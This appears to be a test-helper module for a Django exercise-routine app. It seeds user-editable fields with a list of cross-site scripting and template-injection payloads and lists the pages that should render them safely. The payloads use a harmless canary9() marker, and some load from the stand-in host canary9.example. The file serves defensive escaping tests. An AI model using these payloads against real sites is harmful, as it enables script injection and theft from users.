"""Text that would do something if any page took it for more than text; what it would do is called canary9.

And people who have it wherever somebody, or a file of theirs, could have written it; and where that is seen.
"""

from dataclasses import replace
from datetime import timedelta
from uuid import uuid4

from allauth.account.models import EmailAddress
from allauth.usersessions.models import UserSession
from django.urls import reverse
from django.utils import timezone

from exercises.models import Exercise
from routines.builder import build
from routines.builder.plan import Reason
from routines.models import Proposal
from tests.factories import create_answers, create_person, create_routine, make_profile

PAYLOADS = [
    "<script>canary9()</script>",
    "<ScRiPt>canary9()</sCrIpT>",
    "<script/src=//canary9.example></script>",
    "</script><script>canary9()</script>",
    "--><script>canary9()</script><!--",
    "]]><script>canary9()</script>",
    "</title><script>canary9()</script>",
    "</textarea><script>canary9()</script>",
    "</option></select><script>canary9()</script>",
    "</style><script>canary9()</script>",
    "<img src=x onerror=canary9()>",
    "<img src=x onerror='canary9()'>",
    '"><img src=x onerror=canary9()>',
    "'><img src=x onerror=canary9()>",
    "<img/src=x/onerror=canary9()>",
    "<img src=`x`onerror=canary9()>",
    "<svg onload=canary9()>",
    "<svg/onload=canary9()//",
    "<svg><script>canary9()</script></svg>",
    "<svg><animate onbegin=canary9() attributeName=x>",
    "<svg><a xlink:href=javascript:canary9()><text y=9>x",
    "<math><mi xlink:href=javascript:canary9()>x",
    "<iframe src=javascript:canary9()>",
    "<iframe srcdoc='<script>canary9()</script>'>",
    "<object data=javascript:canary9()>",
    "<embed src=javascript:canary9()>",
    "<body onload=canary9()>",
    "<details open ontoggle=canary9()>",
    "<video><source onerror=canary9()>",
    "<audio src=x onerror=canary9()>",
    "<input autofocus onfocus=canary9()>",
    "<select autofocus onfocus=canary9()>",
    "<marquee onstart=canary9()>x",
    "<form action=javascript:canary9()><button>x",
    "<a href=javascript:canary9()>x</a>",
    "<a href='data:text/html,<script>canary9()</script>'>x",
    "<base href=//canary9.example/>",
    "<link rel=stylesheet href=//canary9.example>",
    "<meta http-equiv=refresh content=0;url=javascript:canary9()>",
    "<style>@import'//canary9.example';</style>",
    "<x style=animation-name:canary9 onanimationstart=canary9()>",
    "<div hx-get=/ hx-trigger=load hx-on::load=canary9()>",
    "<template><script>canary9()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary9()>'>",
    '" autofocus onfocus=canary9() x="',
    "' autofocus onfocus=canary9() x='",
    '" style="background:url(//canary9.example)',
    "javascript:canary9()",
    "`${canary9()}`",
    "${canary9()}",
    "{{ canary9 }}",
    "{% include 'canary9' %}",
    "{{constructor.constructor('canary9()')()}}",
    "#{canary9}",
    "%(canary9)s {canary9.__class__}",
    "[x](javascript:canary9())",
    "![x](x'onerror=canary9())",
    "&lt;script&gt;canary9()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;canary9()",
    "%3Cscript%3Ecanary9()%3C/script%3E",
    "%253Cscript%253Ecanary9()",
    "\\u003cscript\\u003ecanary9()",
    "\u202e<script>canary9()</script>",
    "+ADw-script+AD4-canary9()",
    "\uff1cscript\uff1ecanary9()",
]
CONTEXTS = [PAYLOADS[n] for n in (3, 6, 12, 44, 50)]  # out of scripts, titles, texts, attributes, templates


def fill(person):
    """Every text that a person can write, with each payload where pages show all; gives the pages that show it."""
    now = timezone.now()
    for payload in CONTEXTS[:3]:  # no more are shown
        person.activities.create(name=payload)
        person.habit_choices.create(habit="sit-even", moment=payload)
    for payload in PAYLOADS:
        create_routine(person, name=payload)
        person.sessions.create(client_id=uuid4(), started_at=now, local_date=now.date(), note=payload)
    shown = [person.routines.get(name=payload) for payload in CONTEXTS]
    parts = ("", "leaflet/", "rename/", "history/", "session/")
    checkins = [session for session in person.sessions.all() if session.note in CONTEXTS]
    return (
        ["/routines/", "/progress/", "/habits/", "/today/", "/"]
        + [f"/routines/{routine.pk}/{part}" for routine in shown for part in parts]
        + [reverse("routines:checkin", args=[session.client_id]) for session in checkins]
    )


def create_hostile(text):
    """Their routine."""
    person = create_person(f'"{text[:50].lower()}{uuid4().hex[:8]}"@example.org')
    EmailAddress.objects.create(user=person, email=person.email, verified=True, primary=True)
    create_answers(person)
    now = timezone.now()
    UserSession.objects.create(user=person, session_key=uuid4().hex, ip="127.0.0.1", user_agent=text)
    activity = person.activities.create(name=text)
    person.ratings.create(activity=activity, on=timezone.localdate(), value=4)
    person.habit_choices.create(habit="sit-stand-up", moment=text[:60])
    routine = routine_of(person, text)
    Proposal.objects.create(
        owner=person, routine=routine, key=f"more:{text}", reason=text, answer="accepted", before=1, made=2
    )
    for days in range(3):
        begun = now - timedelta(days=days)
        person.sessions.create(
            client_id=uuid4(),
            routine=routine,
            started_at=begun,
            local_date=begun.date(),
            note=text,
            seconds=60,
        )
    return routine


def routine_of(person, text):
    """The plan is a document: brought in from a file, its reasons and advice say what the file says."""
    profile = make_profile(minutes=12, regions=frozenset({"lower-back"}), equipment=frozenset({"chair"}))
    plan = build(profile, Exercise.objects.catalogue())
    items = tuple(replace(item, reasons=(Reason("factor", text, text),), how=(text,)) for item in plan.items)
    plan = replace(plan, items=items, notes=(text,), relaxed=(text,))
    routine = create_routine(person, plan, profile=profile, name=text)
    person.revisions.update(change=text[:60])
    return routine


def places(routine, text):
    """Every page that shows something of it."""
    base, item = f"/routines/{routine.pk}/", routine.version.plan.items[0]
    session = routine.owner.sessions.first()
    return [
        "/",
        "/today/",
        "/build/",
        "/routines/",
        "/progress/",
        "/habits/",
        "/relief/",
        "/you/",
        "/profile/",
        "/intake/answers/",
        "/accounts/email/",
        "/accounts/sessions/",
        "/accounts/2fa/",
        base,
        f"{base}session/",
        f"{base}leaflet/",
        f"{base}rename/",
        f"{base}history/",
        f"{base}history/1/",
        f"{base}items/{item.block}/{item.exercise}/swap/",
        f"/routines/add/{item.exercise}/",
        f"/sessions/{session.client_id}/checkin/",
    ]
